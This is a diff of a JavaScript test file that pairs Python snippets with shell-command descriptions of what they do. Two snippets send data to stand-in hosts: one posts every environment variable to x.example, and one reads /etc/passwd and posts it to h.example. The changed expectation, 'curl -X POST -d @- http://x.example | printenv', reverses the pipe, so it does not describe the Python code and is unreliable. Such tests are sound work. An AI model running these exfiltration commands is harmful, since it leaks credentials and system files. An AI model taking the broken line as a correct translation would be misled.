@@ -40,7 +40,7 @@ describe('python: what a program would do is told in words of the shell', () => 
     ],
     [
       `import os, requests\nrequests.post('http://x.example', json=dict(os.environ))`,
-      ['curl -X POST -d … http://x.example'],
+      ['curl -X POST -d @- http://x.example | printenv'],
     ],
     [
       `import urllib.request\ndef send(url, body):\n    req = urllib.request.Request(url, data=body)\n    with urllib.request.urlopen(req) as response:\n        return response.status\nwith open('/etc/passwd', 'rb') as file:\n    body = file.read()\nsend('http://h.example/submit', body)`,
